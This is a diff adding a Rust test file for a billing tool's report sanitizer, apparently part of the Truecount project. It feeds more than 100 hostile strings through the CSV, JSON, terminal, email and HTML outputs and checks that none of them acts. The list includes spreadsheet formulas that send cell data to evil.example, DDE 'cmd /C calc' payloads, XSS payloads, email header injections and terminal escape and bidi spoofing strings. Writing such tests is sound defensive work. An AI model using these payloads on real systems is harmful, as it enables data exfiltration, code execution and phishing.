@@ -1,0 +1,365 @@
+//! Hostile names in every file and in the mail: they are shown, and never act.
+
+#![expect(clippy::unwrap_used, reason = "a test fails by it")]
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use crate::invented::{self, Sample};
+use mail_parser::MessageParser;
+use truecount_billing::{ProductCode, ReadState};
+use truecount_reconciliation::{AccountRecord, DoubtRecord, RowKind, SourceReadWord, WideningRecord};
+use truecount_reports::{MailContent, ReportMail, email, run_json, sanitize, text_summary};
+
+/// Each is a name of a client, a vendor account or a product.
+const ATTACKS: &[&str] = &[
+    // formulas
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open invoice\")",
+    "=cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "=IMPORTXML(CONCAT(\"https://evil.example/?v=\",A1),\"//a\")",
+    "=WEBSERVICE(\"https://evil.example\")",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\0=1+1",
+    " =1+1",
+    "   \u{a0}=1+1",
+    "\u{200b}=1+1",
+    "\u{feff}=1+1",
+    "\u{202e}=1+1",
+    "\u{3000}=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    " ＝1+1",
+    "﹦1",
+    "−1",
+    "\u{b}=1",
+    "\u{c}=1",
+    "\"=1+1\"",
+    "\",=1+1,\"",
+    "a\",\"=1+1",
+    "a\r\n=1+1,x",
+    "a\n\"=1+1\"",
+    "'=1+1",
+    "''=1",
+    ";=1+1",
+    "-12.50 Ltd",
+    // HTML
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "\"><svg onload=alert(1)>",
+    "'><a href='https://evil.example'>pay</a>",
+    "<!--",
+    "--><b>",
+    "</td></tr></table><h1>PAY",
+    "<style>*{display:none}</style>",
+    "&lt;script&gt;",
+    "&#60;b&#62;",
+    "</title><meta http-equiv=refresh content=0>",
+    "<bdi>",
+    "{{ 7*7 }}",
+    "{% include \"x\" %}",
+    "${7*7}",
+    "<![CDATA[x]]>",
+    "javascript:alert(1)",
+    "data:text/html,<b>x",
+    // headers and MIME
+    "x\r\nBcc: evil@evil.example",
+    "x\nSubject: pay",
+    "x\r\n\r\n<b>body</b>",
+    "\r\n.\r\nQUIT",
+    "=?utf-8?B?PGI+?=",
+    "=?utf-8?Q?=0D=0ABcc:_x?=",
+    "--=_mixed_2026-06-closing-1-7f3c9a.billing.1--",
+    "--=_alternative_2026-06-closing-1-7f3c9a.billing.1",
+    "Content-Type: text/html",
+    "%0d%0aBcc: x",
+    // links that a mail program would make
+    "https://evil.example/login",
+    "www.evil.example",
+    "Pay at evil.example now",
+    "mail boss@evil.example",
+    "http://1.2.3.4/",
+    "evil。example",
+    "ftp://x.y",
+    // screens
+    "\u{1b}[31mred\u{1b}[0m",
+    "\u{1b}]0;title\u{7}",
+    "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
+    "\u{9b}31m",
+    "\u{8}\u{8}\u{8}GBP 0.00",
+    "a\rGBP 0.00",
+    "\u{7f}",
+    "invoice\u{202e}fdp.exe",
+    "\u{2066}x\u{2069}y",
+    "\u{200f}x",
+    "\u{061c}x",
+    "x\u{2028}y\u{2029}z",
+    "zero\u{200b}width",
+    "\u{ad}soft",
+    "\u{e0041}tag",
+    "\u{fff9}a\u{fffa}b\u{fffb}",
+    "\u{3164}",
+    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
+    "\u{0}",
+    "\u{fffe}",
+    "﷽",
+    "👩‍👩‍👧 Ltd",
+    "NULL",
+    "<plaintext>",
+    "1e309",
+    "🏴\u{e0067}\u{e0062}\u{e007f}",
+];
+
+/// A month in which every foreign text is the attack.
+fn attacked(attack: &str) -> Sample {
+    let mut sample = invented::month();
+    let text = || attack.to_owned();
+    for client in &mut sample.clients {
+        client.client_name = text();
+    }
+    for row in sample.rows() {
+        if let Ok(code) = ProductCode::new(attack) {
+            row.service = code;
+        }
+        for line in &mut row.lines {
+            (line.agreement_name, line.product_name) = (text(), Some(text()));
+        }
+        for widening in &mut row.widenings {
+            if let WideningRecord::AccountFailed { account } | WideningRecord::AccountUndecided { account } = widening {
+                account.account_name = text();
+            }
+        }
+    }
+    let gone = AccountRecord { account_name: text(), ..invented::account("pax8", "gone") };
+    let doubts = vec![DoubtRecord::AccountGone { account: gone, since: invented::COUNT_DAY }];
+    sample.rows().find(|row| row.kind == RowKind::Underbilled).unwrap().doubts = doubts;
+    let portfolio = &mut sample.portfolio;
+    portfolio.sources[1].read = SourceReadWord::NotRead;
+    let incomplete = portfolio.sources.iter_mut().flat_map(|source| &mut source.incomplete);
+    for one in incomplete {
+        (one.account.account_name, one.client_name) = (text(), Some(text()));
+    }
+    portfolio.unmapped.iter_mut().for_each(|account| account.account_name = text());
+    for source in &mut sample.sources {
+        (source.source_kind, source.state) = (text(), ReadState::Failed(invented::because(&text())));
+        let mut receipt = invented::receipt();
+        receipt.unknown_words.iter_mut().for_each(|word| (word.field, word.word) = (text(), text()));
+        source.receipt = Some(receipt);
+    }
+    for setup in &mut sample.setup {
+        (setup.code, setup.subject, setup.message) = (text(), text(), text());
+    }
+    for suggestion in &mut sample.suggestions {
+        (suggestion.account_name, suggestion.client_name, suggestion.reason) = (text(), Some(text()), text());
+    }
+    // our own words, which may name a place: tried with everything but links
+    if !attack.contains("://") && !attack.contains("evil") {
+        (sample.header.run_id, sample.header.archive_place, sample.header.replaces) = (text(), text(), Some(text()));
+    }
+    sample
+}
+
+fn mail(sample: &Sample) -> Vec<u8> {
+    let settings = ReportMail {
+        from: "billing@hollybank.example".into(),
+        to: vec!["ada@hollybank.example".into()],
+        group: sample.setup[0].code.clone(),
+        attempt: 1,
+        files: &[],
+        content: MailContent::Work,
+        about: Vec::new(),
+    };
+    email(&sample.report(), &settings).unwrap()
+}
+
+/// The characters that may not reach a screen. On purpose not the code under test.
+fn acts(text: &str) -> Option<char> {
+    let bad = |c: &char| {
+        let code = u32::from(*c);
+        code < 0x20
+            || (0x7f..0xa0).contains(&code)
+            || [0x61c, 0x200b, 0x200e, 0x200f, 0xfeff].contains(&code)
+            || (0x2028..=0x202e).contains(&code)
+            || (0x2066..=0x2069).contains(&code)
+            || (0xe0000..0xe1000).contains(&code)
+    };
+    text.chars().find(bad)
+}
+
+#[test]
+fn the_attacks_are_distinct() {
+    assert!(ATTACKS.len() >= 100, "{}", ATTACKS.len());
+    assert_eq!(ATTACKS.iter().collect::<BTreeSet<_>>().len(), ATTACKS.len());
+}
+
+#[test]
+fn no_cell_is_a_formula_or_acts() {
+    const NUMBERS: [&str; 6] =
+        ["variance", "to_correct", "left_alone", "unit_price", "monthly_impact", "invoice_amount"];
+    let mut prefixed = 0;
+    for attack in ATTACKS {
+        let sample = attacked(attack);
+        let files = sample.files();
+        for file in files.iter().filter(|file| file.name.ends_with(".csv")) {
+            let mut reader = csv::Reader::from_reader(&file.bytes[3..]);
+            let columns = reader.headers().unwrap().clone();
+            for record in reader.records() {
+                for (column, cell) in columns.iter().zip(&record.unwrap()) {
+                    assert_eq!(acts(cell), None, "{attack:?} in {column}: {cell:?}");
+                    let first = cell.trim_start().chars().next();
+                    let is_formula = first.is_some_and(|first| "=+-@＝＋－＠﹦−".contains(first));
+                    assert!(!is_formula || NUMBERS.contains(&column), "{attack:?} in {column}: {cell:?}");
+                    prefixed += usize::from(cell.starts_with('\''));
+                }
+            }
+        }
+    }
+    assert!(prefixed > 1000, "only {prefixed} cells were made text");
+}
+
+#[test]
+fn numbers_stay_numbers() {
+    let bytes = invented::month().file("exceptions.csv");
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let impact = reader.headers().unwrap().iter().position(|column| column == "monthly_impact").unwrap();
+    let negative = reader.records().filter(|record| record.as_ref().unwrap()[impact].starts_with('-')).count();
+    assert_eq!(negative, 3);
+}
+
+#[test]
+fn json_keeps_the_text_and_escapes_what_acts() {
+    for attack in ATTACKS {
+        let run = run_json(&attacked(attack).report()).unwrap();
+        let text = String::from_utf8(run.bytes).unwrap();
+        assert_eq!(acts(&text.replace('\n', "")), None, "{attack:?}");
+        let read: serde_json::Value = serde_json::from_str(&text).unwrap();
+        assert_eq!(read["portfolio"]["unmapped"][0]["account_name"], *attack);
+    }
+}
+
+#[test]
+fn nothing_acts_on_a_terminal() {
+    for attack in ATTACKS {
+        assert_eq!(acts(&text_summary(&attacked(attack).report()).replace('\n', "")), None, "{attack:?}");
+    }
+}
+
+#[test]
+fn the_mail_gains_no_header_part_or_tag() {
+    let usual = mail(&attacked("Acme Ltd"));
+    let usual = MessageParser::default().parse(&usual).unwrap();
+    let expected_tags = tags(&usual.body_html(0).unwrap());
+    for attack in ATTACKS {
+        let raw = mail(&attacked(attack));
+        let message = MessageParser::default().parse(&raw).unwrap();
+        let headers: Vec<_> = message.headers().iter().map(|header| header.name()).collect();
+        let expected = [
+            "Date",
+            "Message-ID",
+            "From",
+            "To",
+            "Subject",
+            "MIME-Version",
+            "Auto-Submitted",
+            "X-Auto-Response-Suppress",
+            "Content-Type",
+        ];
+        assert_eq!(headers, expected, "{attack:?}");
+        let parts = (message.parts.len(), message.text_body.len(), message.html_body.len(), message.attachment_count());
+        assert_eq!(parts, (6, 1, 1, 2), "{attack:?}");
+        let subject = message.subject().unwrap();
+        assert!(
+            subject.starts_with("Truecount June 2026: ") && subject.contains(" compared; GBP 2,432.65"),
+            "{subject}"
+        );
+        let id = message.message_id().unwrap();
+        assert!(id.ends_with(".1@hollybank.example") && id.is_ascii() && !id.contains([' ', '<', '>']), "{id}");
+
+        let html = message.body_html(0).unwrap();
+        assert_eq!(tags(&html), expected_tags, "{attack:?}");
+        assert_eq!(acts(&html.replace("\r\n", "").replace('\n', "")), None, "{attack:?}");
+        let text = message.body_text(0).unwrap();
+        assert_eq!(acts(&text.replace("\r\n", "").replace('\n', "")), None, "{attack:?}");
+        for body in [&html, &text].map(|body| body.replace("s3://hollybank", "")) {
+            for link in ["://", "www.e", "evil.e", "@evil", "evil。e"] {
+                assert!(!body.contains(link), "{attack:?} leaves {link}");
+            }
+        }
+    }
+}
+
+#[test]
+fn the_page_gains_no_tag_and_no_character_that_acts() {
+    let usual = attacked("Acme Ltd").page();
+    let (script, tags_of_usual) = (usual.split_once("<script>").unwrap().1, tags(&usual));
+    for attack in ATTACKS {
+        let page = attacked(attack).page();
+        assert_eq!(tags(&page), tags_of_usual, "{attack:?}");
+        assert_eq!(acts(&page.replace('\n', "")), None, "{attack:?}");
+        assert!(page.ends_with(script), "{attack:?}");
+    }
+}
+
+/// Every tag with its attributes' names, and how often each is there.
+fn tags(html: &str) -> BTreeMap<String, usize> {
+    let mut tags = BTreeMap::new();
+    let mut rest = html;
+    while let Some(start) = rest.find('<') {
+        let end = start + rest[start..].find('>').unwrap();
+        let mut names: Vec<_> = rest[start + 1..end].split('"').step_by(2).collect();
+        names.retain(|name| !name.is_empty());
+        *tags.entry(names.concat().split_whitespace().collect::<Vec<_>>().join(" ")).or_default() += 1;
+        rest = &rest[end..];
+    }
+    tags
+}
+
+#[test]
+fn visible_cell_and_unlinked_case_by_case() {
+    let table = [
+        ("Acme Ltd", "Acme Ltd", "Acme Ltd", "Acme Ltd"),
+        ("=1", "=1", "'=1", "=1"),
+        (" ＝1", " ＝1", "' ＝1", " ＝1"),
+        ("\t=1", "[U+0009]=1", "'[U+0009]=1", "[U+0009]=1"),
+        ("\tx", "[U+0009]x", "'[U+0009]x", "[U+0009]x"),
+        ("a\r\nb", "a[U+000D][U+000A]b", "a[U+000D][U+000A]b", "a[U+000D][U+000A]b"),
+        ("a\u{202e}b", "a[U+202E]b", "a[U+202E]b", "a[U+202E]b"),
+        ("\u{e0041}", "[U+E0041]", "[U+E0041]", "[U+E0041]"),
+        ("می\u{200c}خواهم", "می\u{200c}خواهم", "می\u{200c}خواهم", "می\u{200c}خواهم"),
+        ("St. Mary 12.50", "St. Mary 12.50", "St. Mary 12.50", "St. Mary 12.50"),
+        ("https://a.b", "https://a.b", "https://a.b", "https:\u{200c}//a.\u{200c}b"),
+        ("x@y.example", "x@y.example", "x@y.example", "x@\u{200c}y.\u{200c}example"),
+        ("1-2", "1-2", "1-2", "1-2"),
+        ("", "", "", ""),
+    ];
+    for (text, visible, cell, unlinked) in table {
+        assert_eq!(sanitize::visible(text), visible);
+        assert_eq!(sanitize::cell(text), cell);
+        assert_eq!(sanitize::unlinked(text), unlinked);
+    }
+    assert_eq!(sanitize::shortened("abcdef", 6), "abcdef");
+    assert_eq!(sanitize::shortened("abc def", 5), "abc…");
+    assert_eq!(sanitize::shortened("ÄÖÜäöü", 4), "ÄÖÜ…");
+}
+
+proptest::proptest! {
+    #[test]
+    fn any_text_is_made_harmless(text: String) {
+        let cell = sanitize::cell(&text).into_owned();
+        proptest::prop_assert_eq!(acts(&cell), None);
+        let first = cell.trim_start().chars().next();
+        proptest::prop_assert!(!first.is_some_and(|first| "=+-@＝＋－＠".contains(first)));
+        let shown = sanitize::visible(&text);
+        proptest::prop_assert_eq!(sanitize::visible(&shown), &*shown);
+        proptest::prop_assert_eq!(sanitize::unlinked(&text).replace('\u{200c}', ""), sanitize::visible(&text).replace('\u{200c}', ""));
+    }
+}
